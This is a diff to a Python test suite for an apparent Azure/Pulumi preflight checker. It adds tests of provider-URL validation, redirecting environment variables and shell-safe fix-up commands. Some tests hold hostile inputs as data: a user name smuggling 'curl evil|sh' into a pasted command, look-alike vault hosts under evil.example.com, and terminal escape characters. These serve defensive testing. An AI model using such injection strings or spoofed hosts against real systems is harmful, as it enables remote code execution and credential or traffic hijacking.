@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 
 import pytest
@@ -159,6 +160,31 @@ def test_a_state_that_no_key_vault_encrypts(machine: Machine, file: dict[str, st
     assert check.mend.startswith('pulumi stack change-secrets-provider --stack dev "azurekeyvault://')
 
 
+@pytest.mark.parametrize(
+    ("provider", "outcome"),
+    [
+        ("azurekeyvault://kv.vault.azure.net/keys/pulumi/0123456789abcdef0123456789abcdef", "ok"),
+        ("awskms://alias/pulumi?region=eu-west-1", "warning"),
+        ("gcpkms://projects/p/locations/l/keyRings/r/cryptoKeys/k", "warning"),
+        ("hashivault://pulumi", "warning"),
+        ("passphrase", "warning"),
+        ("default", "warning"),
+        ("passphrase://", "failed"),
+        ("foo://x", "failed"),
+        ("http://evil/", "failed"),
+        ("azurekeyvault://evil.example.com/keys/pulumi", "failed"),
+        ("azurekeyvault://kv.vault.azure.net.evil.example.com/keys/pulumi", "failed"),
+        ("azurekeyvault://me@kv.vault.azure.net/keys/pulumi", "failed"),
+        ("azurekeyvault://kv.vault.azure.net/secrets/pulumi", "failed"),
+        ("azurekeyvault://kv.vault.azure.net/keys/pulumi;x", "failed"),
+    ],
+)
+def test_only_a_key_vault_s_key_is_taken_for_one(machine: Machine, provider: str, outcome: str) -> None:
+    machine.file = {"secretsprovider": provider}
+
+    assert machine.checks()["secrets-provider"].outcome == outcome
+
+
 # Azure CLI and login
 
 
@@ -208,6 +234,31 @@ def test_variables_that_name_another_subscription(machine: Machine, monkeypatch:
     monkeypatch.setenv("ARM_SUBSCRIPTION_ID", "99999999-9999-4999-8999-999999999999")
 
     assert machine.only("arm-variables", "warning").mend == f"export ARM_SUBSCRIPTION_ID={SUBSCRIPTION}"
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("PULUMI_DEBUG_PROVIDERS", "azure-native:4000"),
+        ("ARM_METADATA_HOSTNAME", "management.azure.com.evil.example.com"),
+        ("ARM_ENVIRONMENT", "usgovernment"),
+    ],
+)
+def test_variables_that_let_somebody_else_answer(
+    machine: Machine, monkeypatch: pytest.MonkeyPatch, name: str, value: str
+) -> None:
+    monkeypatch.setenv(name, value)
+
+    check = machine.only("arm-variables", "failed")
+    assert check.mend == f"unset {name}"
+    assert check.found.startswith(f"{name} is {value}")
+
+
+def test_variables_that_name_the_public_cloud(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("ARM_METADATA_HOSTNAME", "management.azure.com")
+    monkeypatch.setenv("ARM_ENVIRONMENT", "Public")
+
+    assert machine.checks()["arm-variables"].outcome == "ok"
 
 
 def test_variables_that_are_half_a_credential(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -315,8 +366,11 @@ def test_a_contributor_lacks_the_writes_of_authorization(machine: Machine) -> No
         "engineer@example.com may not: Microsoft.Authorization/roleAssignments/{delete,write},"
         " Microsoft.Authorization/roleDefinitions/{delete,write}"
     )
-    create = 'az role assignment create --assignee "engineer@example.com" --role "User Access Administrator"'
-    assert check.mend.splitlines()[1:] == [f"{create} --scope /subscriptions/{SUBSCRIPTION}"]
+    create = f"az role assignment create --assignee engineer@example.com --scope /subscriptions/{SUBSCRIPTION}"
+    assert check.mend.splitlines()[1:] == [
+        f"{create} --role 'User Access Administrator'",
+        "# narrower: a custom role of the actions found missing (az role definition create)",
+    ]
 
 
 def test_a_reader_lacks_both_roles(machine: Machine) -> None:
@@ -324,10 +378,26 @@ def test_a_reader_lacks_both_roles(machine: Machine) -> None:
 
     check = machine.only("rights", "failed")
     assert "Microsoft.Network/virtualNetworks/subnets/join/action" in check.found
-    assert [line.split('--role "')[1].split('"')[0] for line in check.mend.splitlines()[1:]] == [
+    assert [shlex.split(line)[-1] for line in check.mend.splitlines()[1:3]] == [
         "Contributor",
         "User Access Administrator",
     ]
+
+
+def test_a_name_gives_no_orders_to_the_shell_that_a_mend_is_pasted_into(machine: Machine) -> None:
+    machine.says(stand_in.PERMISSIONS, {"value": []})
+    user = {"name": 'x"; curl evil|sh; "\ncurl evil', "type": "user"}
+    machine.says(stand_in.ACCOUNT, {**machine.answer(stand_in.ACCOUNT), "user": user})
+
+    for line in machine.only("rights", "failed").mend.splitlines():
+        words = shlex.split(line, comments=True)
+        assert not words or words[4:6] == ["--assignee", 'x"; curl evil|sh; " curl evil']
+
+
+def test_what_azure_says_stays_on_its_line(machine: Machine) -> None:
+    machine.says(stand_in.ACCOUNT, {**machine.answer(stand_in.ACCOUNT), "name": "Lab\nOK\x1b[2K\u202e"})
+
+    assert machine.checks()["azure-subscription"].found.startswith("Lab OK [2K  (")
 
 
 def test_vault_secrets_need_not_be_deleted(machine: Machine) -> None:
@@ -445,9 +515,8 @@ def test_a_quota_that_has_room_for_one_cluster_only(machine: Machine) -> None:
 
 def test_nodes_that_are_there_need_no_quota(machine: Machine) -> None:
     machine.says(stand_in.USAGE, _usage(machine, "StandardDsv6Family", used=8, limit=16))
-    groups = machine.answer(stand_in.GROUPS)
-    groups.append({**groups[0], "name": "rg-myorga-dev-001", "tags": {"edge-stamps-stack": "myorg-dev-001"}})
-    machine.says(stand_in.GROUPS, groups)
+    _has_group(machine)
+    machine.says(stand_in.STATE, {"version": 3, "deployment": {"resources": [{}, {}]}})
 
     assert "8 needed, 8 of 16 in use" in machine.checks()["quota"].found
 
@@ -495,6 +564,29 @@ def test_a_resource_group_of_our_name_that_is_somebody_else_s(machine: Machine, 
     assert "instance" in check.mend and "prefix" in check.mend
 
 
+@pytest.mark.parametrize("deployment", [{"manifest": {}}, {"resources": []}])
+def test_groups_of_this_stack_that_its_state_does_not_know(machine: Machine, deployment: dict[str, object]) -> None:
+    _has_group(machine)
+    machine.says(stand_in.STATE, {"version": 3, "deployment": deployment})
+
+    check = machine.only("state", "failed")
+    assert "its state is empty: another backend? rg-myorga-dev-001" in check.found
+    assert check.mend.splitlines()[1:] == ["pulumi whoami --verbose"]
+
+
+def test_groups_of_this_stack_that_its_state_knows(machine: Machine) -> None:
+    _has_group(machine)
+    machine.says(stand_in.STATE, {"version": 3, "deployment": {"resources": [{}, {}]}})
+
+    assert machine.checks()["state"].found == "2 resources, of 1 resource groups"
+
+
+def _has_group(machine: Machine) -> None:
+    groups = machine.answer(stand_in.GROUPS)
+    tags = {"edge-stamps-stack": "myorg-dev-001"}
+    machine.says(stand_in.GROUPS, [*groups, {**groups[0], "name": "rg-myorga-dev-001", "tags": tags}])
+
+
 def test_a_question_that_azure_does_not_answer_fails_with_its_reason(machine: Machine) -> None:
     machine.fails(
         stand_in.DELETED, "ERROR: (AuthorizationFailed) The client 'x' does not have authorization\nCode: ...\n"
@@ -509,7 +601,7 @@ def test_an_answer_of_another_form_stops_nothing(machine: Machine) -> None:
     machine.says(stand_in.GROUPS, {"value": []})
 
     found = machine.checks()
-    assert {one.id for one in found.values() if one.outcome == "failed"} == {"quota", "resource-groups"}
+    assert {one.id for one in found.values() if one.outcome == "failed"} == {"quota", "resource-groups", "state"}
     assert "not understood" in found["resource-groups"].found
 
 
